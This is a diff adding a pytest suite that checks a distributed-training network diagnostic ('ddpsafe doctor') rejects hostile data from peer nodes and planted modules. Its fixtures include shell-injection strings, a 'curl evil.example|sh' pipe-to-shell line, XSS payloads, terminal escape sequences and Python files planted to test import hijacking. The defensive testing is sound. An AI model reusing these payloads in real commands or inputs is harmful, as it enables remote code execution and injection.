@@ -1,0 +1,475 @@
+"""What other hosts and foreign directories say is data: nothing of it runs, prints or is pasted as ours."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import subprocess
+import sys
+import threading
+from dataclasses import replace
+from datetime import timedelta
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Final
+
+import pytest
+import scripts
+
+from ddpsafe._clock import Deadline
+from ddpsafe.doctor import Direction, Finding, Matrix, Report, _mesh
+from ddpsafe.doctor._mesh import _lines
+from ddpsafe.doctor._mesh._board import gather, wait_for
+from ddpsafe.doctor._mesh._case import Case, pack, unpack
+from ddpsafe.doctor._mesh._endpoint import reach_hub
+from ddpsafe.doctor._mesh._guest import Guest
+from ddpsafe.doctor._mesh._hub import Hub
+from ddpsafe.doctor._mesh._messages import (
+    Announced,
+    Contact,
+    Dialled,
+    Facts,
+    Gate,
+    Greeting,
+    Node,
+    NodeReport,
+    Reduced,
+    Roster,
+    read,
+    write,
+)
+from ddpsafe.doctor._mesh._verdict import judge, make_matrix
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+EVIL: Final = "x; touch PWNED; $(touch PWNED) `touch PWNED`"
+ESCAPE: Final = "gpu\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
+SOON: Final = timedelta(seconds=10)
+
+
+def node(rank: int, **changed: Any) -> Node:
+    """Return what a healthy node says."""
+    known = {
+        "node_rank": rank,
+        "hostname": f"h{rank}",
+        "machine": f"m{rank}",
+        "announced": Announced(
+            address=f"10.77.0.{rank + 1}", interface="eth0", chosen_by="the host's name"
+        ),
+        "port": 40000,
+        "token": "ab",
+        "mtu_bytes": 1500,
+        "interfaces": {"eth0": {f"10.77.0.{rank + 1}": "10.77.0.0/24"}},
+        "port_range": (32768, 60999),
+        "has_torch": False,
+    }
+    return Node(**{**known, **changed})
+
+
+def spoiled(message: object, place: tuple[str | int, ...], value: object) -> Any:
+    """Return a message as plain data, with one value in it exchanged."""
+    table = json.loads(json.dumps(write(message)))
+    inner = table
+    for key in place[:-1]:
+        inner = inner[key]
+    inner[place[-1]] = value
+    return table
+
+
+def is_refused(call: Callable[[], object]) -> bool:
+    """Tell whether a call says that its argument is wrong; any other error is the test's."""
+    try:
+        call()
+    except ValueError:
+        return True
+    return False
+
+
+HELLO: Final = node(1)
+ROSTER: Final = Roster(
+    nnodes=2, contacts=(node(0).contact(), node(1).contact()), seed=1, clock_s=1.0
+)
+TOLD: Final = NodeReport(dialled=(Dialled(0, "dropped"),), gates=(Gate("inet", "filter", "input"),))
+
+
+@pytest.mark.parametrize(
+    ("message", "place", "value"),
+    [
+        (HELLO, ("hostname",), ESCAPE),
+        (HELLO, ("hostname",), EVIL),
+        (HELLO, ("hostname",), "h" * 300),
+        (HELLO, ("hostname",), 7),
+        (HELLO, ("port",), 99999),
+        (HELLO, ("port",), -1),
+        (HELLO, ("port",), 22),
+        (HELLO, ("port",), "40000"),
+        (HELLO, ("port",), 1e300),
+        (HELLO, ("mtu_bytes",), float("nan")),
+        (HELLO, ("announced", "address"), "a" * 70 + ".x"),
+        (HELLO, ("announced", "address"), "evil.example"),
+        (HELLO, ("announced", "address"), "169.254.169.254"),
+        (HELLO, ("announced", "address"), "224.0.0.1"),
+        (HELLO, ("announced", "address"), "0.0.0.0"),
+        (HELLO, ("announced", "address"), "10.99.0.1"),
+        (HELLO, ("announced", "address"), "fe80::1%eth0"),
+        (HELLO, ("announced", "address"), "::ffff:127.0.0.1"),
+        (HELLO, ("announced", "interface"), "eth0; reboot"),
+        (HELLO, ("announced", "interface"), "x" * 16),
+        (HELLO, ("announced", "flaw"), "odd"),
+        (HELLO, ("interfaces",), {"eth0": {"10.77.0.2": "0.0.0.0/99"}}),
+        (HELLO, ("interfaces",), {"eth0": {"10.77.0.2": "10.88.0.0/24"}}),
+        (HELLO, ("interfaces",), {"a\x1bb": {}}),
+        (HELLO, ("interfaces",), []),
+        (HELLO, ("token",), "not hex"),
+        (HELLO, ("node_rank",), -1),
+        (HELLO, ("node_rank",), 10**30),
+        (HELLO, ("facts", "env"), {"A;B": "1"}),
+        (HELLO, ("facts", "env"), {"A": "x" * 100_000}),
+        (HELLO, ("facts", "versions"), {"torch": ["2.13"]}),
+        (HELLO, ("facts", "config"), {"backend": {"deep": {}}}),
+        (ROSTER, ("contacts", 1, 2), 99999),
+        (ROSTER, ("contacts", 1, 1), "localhost"),
+        (ROSTER, ("contacts", 1, 0), 0),
+        (ROSTER, ("contacts", 1, 0), 2),
+        (ROSTER, ("contacts",), []),
+        (ROSTER, ("seed",), -1),
+        (ROSTER, ("clock_s",), float("inf")),
+        (TOLD, ("gates", 0, 1), "filter; curl evil.example|sh #"),
+        (TOLD, ("gates", 0, 0), "bridge"),
+        (TOLD, ("dialled", 0, 1), "<script>"),
+        (TOLD, ("dialled", 0, 2), float("inf")),
+        (TOLD, ("dialled", 0, 5), ESCAPE),
+        (TOLD, ("dialled",), 7),
+        (Reduced(), ("took_s",), "soon"),
+        (Reduced(), ("backends",), [EVIL]),
+    ],
+    ids=lambda each: str(each)[:40] if isinstance(each, (str, int, float, tuple)) else "",
+)
+def test_field_of_a_message_that_makes_no_sense_is_refused(
+    message: object, place: tuple[str | int, ...], value: object
+) -> None:
+    """By its type, its pattern or its range; never later, and never with another error."""
+    read(type(message), json.loads(json.dumps(write(message))))
+    assert is_refused(lambda: read(type(message), spoiled(message, place, value)))
+
+
+def a_case(**changed: Any) -> Case:
+    """Return what was collected of two nodes that do not reach each other."""
+    gates = (Gate("inet", "filter", "input"),)
+    known: dict[str, Any] = {
+        "nnodes": 2,
+        "backend": "gloo",
+        "host": "h0",
+        "port": 29500,
+        "nodes": {0: node(0), 1: node(1)},
+        "reports": {
+            0: NodeReport(dialled=(Dialled(1, "dropped"),), gates=gates),
+            1: NodeReport(dialled=(Dialled(0, "refused", error="ECONNREFUSED"),), gates=gates),
+        },
+    }
+    return Case(**{**known, **changed})
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"nodes": {1: node(1)}},
+        {"nodes": {0: node(0), 1: node(0)}},
+        {"reports": {5: NodeReport(dialled=())}},
+        {"nnodes": 1},
+        {"names": {7: "h7"}},
+        {"garbled": {7: "hello"}},
+        {"host": "h0; reboot"},
+        {"other_hub": 7},
+    ],
+    ids=lambda each: next(iter(each)),
+)
+def test_case_whose_parts_contradict_each_other_is_refused(changed: dict[str, Any]) -> None:
+    """What node rank 0 collected is checked as a whole: no look-up in it may fail later."""
+    table = json.loads(json.dumps(write(a_case())))
+    for name, value in changed.items():
+        table[name] = json.loads(json.dumps(value, default=write))
+    assert is_refused(lambda: read(Case, table))
+
+
+@pytest.mark.parametrize("packed", ["", "x", "eJw=", "e30=", "AAAA" * 10, "é"])
+def test_what_is_no_case_is_refused(packed: str) -> None:
+    """Whatever is wrong with it, it is a ValueError."""
+    assert is_refused(lambda: unpack(packed))
+
+
+def test_every_node_makes_the_findings_itself(tmp_path: Path) -> None:
+    """From the data that node rank 0 collected; it cannot send a text, a code or a line to paste."""
+    evil = {"$(touch${IFS}X)": {"10.77.0.2": "10.77.0.0/24"}}
+    facts = Facts(env={"NCCL_X": EVIL}, versions={"torch": EVIL}, driver=EVIL)
+    other = node(
+        1,
+        interfaces=evil,
+        mtu_bytes=9000,
+        announced=Announced(
+            address="10.77.0.2",
+            interface="$(touch${IFS}X)",
+            chosen_by=EVIL,
+            flaw="not-running",
+            wanted=EVIL,
+        ),
+    )
+    case = a_case(nodes={0: node(0, facts=facts), 1: other})
+    again = unpack(pack(case))
+    assert judge(again) == judge(case)
+    assert make_matrix(again) == make_matrix(case)
+    pasted = [
+        line.strip()
+        for finding in judge(again)
+        for line in finding.fix.splitlines()
+        if line.startswith("    ")
+    ]
+    assert any("IFS" in line for line in pasted)
+    # Each command is replaced by one that does nothing; what a shell expands would still run.
+    harmless = "\n".join(f": {line}" for line in pasted)
+    subprocess.run(["bash", "-c", harmless], cwd=tmp_path, check=True, timeout=30)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_text_of_a_report_moves_no_cursor() -> None:
+    """Control characters, C1 and those that turn the direction of writing are shown, not sent."""
+    finding = Finding(
+        code="DS-MESH-031",
+        severity="failed",
+        fact=ESCAPE,
+        cause=ESCAPE,
+        fix=f"{ESCAPE}\n    {ESCAPE}",
+        hosts=(ESCAPE,),
+    )
+    text = finding.as_text()
+    assert all(each.isprintable() or each == "\n" for each in text), repr(text)
+    assert "\\x1b]0;owned\\x07" in text
+
+
+def test_page_of_a_report_runs_nothing() -> None:
+    """Every field is escaped, wherever it stands, and the page forbids scripts besides."""
+    script = "<script>alert(1)</script>"
+    finding = Finding(
+        code=script,
+        severity=script,  # type: ignore[arg-type]
+        fact=script,
+        cause=script,
+        fix=f"{script}\n    {script}",
+        hosts=(script,),
+    )
+    direction = Direction(source=0, target=1, verdict="open", said=script)
+    matrix = Matrix(
+        hostnames=(script, '"><svg onload=x>'), addresses=("", ""), directions=(direction,)
+    )
+    healthy = replace(finding, severity="ok")
+    failing = replace(finding, severity="failed", fact=ESCAPE)
+    report = Report(findings=(failing, healthy), hostname=script, matrix=matrix)
+    page = report.to_html()
+    assert "<script" not in page
+    assert "<svg onload" not in page
+    assert "\x1b" not in page
+    assert "Content-Security-Policy\" content=\"default-src 'none'" in page
+
+
+def free_endpoint() -> str:
+    """Return an endpoint on this machine that was free a moment ago."""
+    import socket
+
+    with socket.create_server(("127.0.0.1", 0)) as probe:
+        return f"127.0.0.1:{probe.getsockname()[1]}"
+
+
+def examined(endpoint: str, node_rank: int, **asked: Any) -> tuple[list[Finding], Matrix]:
+    """Be an honest node of a job of two."""
+    return _mesh.examine(
+        nnodes=2,
+        node_rank=node_rank,
+        endpoint=endpoint,
+        interface=None,
+        backend="gloo",
+        timeout=timedelta(seconds=5),
+        local={},
+        on_progress=lambda _: None,
+        collective="skip",
+        **asked,
+    )
+
+
+def beside(honest: Callable[[], Any], hostile: Callable[[], Any]) -> Any:
+    """Run an honest node in this thread and a hostile one in another; return what the first says."""
+    other = threading.Thread(target=hostile, daemon=True)
+    other.start()
+    try:
+        return honest()
+    finally:
+        other.join(20)
+        assert not other.is_alive()
+
+
+GARBAGE: Final = [
+    None,
+    "text",
+    [[[[]]]],
+    spoiled(HELLO, ("port",), 99999),
+    spoiled(HELLO, ("hostname",), ESCAPE),
+    spoiled(HELLO, ("announced", "address"), "a" * 70 + ".x"),
+    spoiled(HELLO, ("node_rank",), 0),
+]
+
+
+@pytest.mark.parametrize("hello", GARBAGE, ids=lambda each: str(each)[:30])
+def test_guest_that_says_garbage_is_a_finding(hello: object) -> None:
+    """The honest node ends with a finding about it, not with a traceback."""
+    endpoint = free_endpoint()
+
+    async def come() -> None:
+        greeting = Greeting(
+            version=_lines.VERSION,
+            nnodes=2,
+            node_rank=1,
+            hostname="evil",
+            pid=1,
+            job="",
+            challenge="c",
+        )
+        host, _, port = endpoint.partition(":")
+        guest = await reach_hub(
+            host, int(port), greeting, deadline=Deadline.after(SOON), on_trouble=lambda _: None
+        )
+        assert isinstance(guest, Guest)
+        await guest.put("hello", hello)  # type: ignore[arg-type]
+        await wait_for(guest, "case", deadline=Deadline.after(SOON))
+        await guest.close()
+
+    findings, _ = beside(lambda: examined(endpoint, 0), lambda: asyncio.run(come()))
+    assert "DS-MESH-014" in [finding.code for finding in findings]
+
+
+@pytest.mark.parametrize(
+    ("topic", "value"),
+    [
+        ("roster", {"contacts": []}),
+        ("roster", spoiled(ROSTER, ("contacts", 0, 2), 99999)),
+        ("roster", {"findings": [{"severity": "x"}]}),
+        ("case", "garbage"),
+        ("case", {"findings": [{"code": "<script>", "severity": "x", "fact": ESCAPE}]}),
+        ("all-reduce", "10.0.0.1:22"),
+    ],
+    ids=str,
+)
+def test_hub_that_says_garbage_is_a_finding(topic: str, value: object) -> None:
+    """Every other node trusts node rank 0 with nothing but data."""
+    endpoint = free_endpoint()
+
+    async def serve() -> None:
+        own = Greeting(
+            version=_lines.VERSION,
+            nnodes=2,
+            node_rank=0,
+            hostname="evil",
+            pid=1,
+            job="",
+            challenge="c",
+        )
+        hub = Hub(own)
+        await hub.open(int(endpoint.partition(":")[2]))
+        await gather(hub, "hello", [1], deadline=Deadline.after(SOON))
+        contacts = (
+            Contact(0, "10.77.0.1", 0, "ab", "", "m"),
+            Contact(1, "10.77.0.2", 0, "ab", "", "n"),
+        )
+        honest = Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0)
+        said = {"roster": write(honest), "all-reduce": {"address": "", "port": 0}, topic: value}
+        for each in said.items():
+            await hub.put(*each)  # type: ignore[arg-type]
+        while 1 not in hub.gone():  # noqa: ASYNC110 - the board tells by being asked
+            await asyncio.sleep(0.01)
+        await hub.close()
+
+    findings, matrix = beside(lambda: examined(endpoint, 1), lambda: asyncio.run(serve()))
+    assert [finding.code for finding in findings] == ["DS-MESH-014"]
+    assert matrix.directions == ()
+    Report(findings=tuple(findings), hostname="h", matrix=matrix).to_html()
+
+
+def test_service_on_loopback_is_not_dialled_for_another_host() -> None:
+    """What listens there trusts this host: an address there is only for nodes of the same host."""
+    dialled = threading.Event()
+
+    async def probe() -> NodeReport:
+        async def serve(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            dialled.set()
+            writer.close()
+
+        server = await asyncio.start_server(serve, "127.0.0.1", 0)
+        port = server.sockets[0].getsockname()[1]
+        from ddpsafe.doctor._mesh._job import Job
+        from ddpsafe.doctor._mesh._mesh import Member
+
+        job = Job(
+            nnodes=2,
+            node_rank=1,
+            host="h0",
+            port=1,
+            interface=None,
+            backend="gloo",
+            timeout=SOON,
+            facts={},
+            say=lambda _: None,
+            collective="skip",
+        )
+        contacts = (
+            Contact(0, "127.0.0.1", port, "ab", "", "elsewhere"),
+            Contact(1, "10.77.0.2", 0, "ab", "", "here"),
+        )
+        member = Member(job, {})
+        told = await member.probe(Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0))
+        server.close()
+        return told
+
+    (found,) = asyncio.run(probe()).dialled
+    assert (found.verdict, found.reason) == ("no-route", "no-address")
+    assert not dialled.is_set()
+
+
+def test_nodes_without_the_same_secret_are_told_so() -> None:
+    """Who does not know it takes no place, and both sides say why."""
+    endpoint = free_endpoint()
+    others: list[Finding] = []
+    findings, _ = beside(
+        lambda: examined(endpoint, 0, secret="ours"),
+        lambda: others.extend(examined(endpoint, 1, secret="theirs")[0]),
+    )
+    assert "DS-MESH-015" in [finding.code for finding in findings]
+    assert [finding.code for finding in others] == ["DS-MESH-015"]
+
+
+PLANTED: Final = "import os\nwith open(os.environ['MARK'], 'a') as file: file.write(__file__)\n"
+
+
+@pytest.mark.root
+@pytest.mark.parametrize("unsafe", ["of another user", "writable for all"])
+def test_nothing_planted_in_a_foreign_directory_runs(tmp_path: Path, unsafe: str) -> None:
+    """As with `cd /tmp && ddpsafe doctor`, typed by root: modules that the helpers import lie there."""
+    folder, mark = tmp_path / "shared", tmp_path / "mark"
+    folder.mkdir()
+    for name in ("torch", "multiprocessing", "json", "asyncio", "numpy", "runpy", "socket"):
+        (folder / f"{name}.py").write_text(PLANTED, encoding="utf-8")
+    if unsafe == "of another user":
+        os.chown(folder, 65534, 65534)
+    else:
+        folder.chmod(0o1777)
+    done = subprocess.run(
+        [str(Path(sys.executable).with_name("ddpsafe")), "doctor", "--no-mesh", "--json"],
+        cwd=folder,
+        env={**scripts.clean_environment(), "MARK": str(mark)},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert not mark.exists(), mark.read_text(encoding="utf-8")
+    findings = {each["code"]: each for each in json.loads(done.stdout)["findings"]}
+    assert findings["DS-VER-001"]["severity"] == "ok"
+    assert findings["DS-PROC-001"]["severity"] == "ok"
